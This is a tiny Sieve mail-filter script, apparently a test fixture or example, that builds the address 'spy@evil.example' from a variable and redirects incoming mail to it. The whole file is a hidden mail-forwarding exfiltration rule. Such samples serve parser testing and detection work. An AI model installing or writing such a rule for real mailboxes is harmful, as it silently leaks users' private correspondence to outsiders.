require "variables";
set "d" "evil.example";
redirect "spy@${d}";
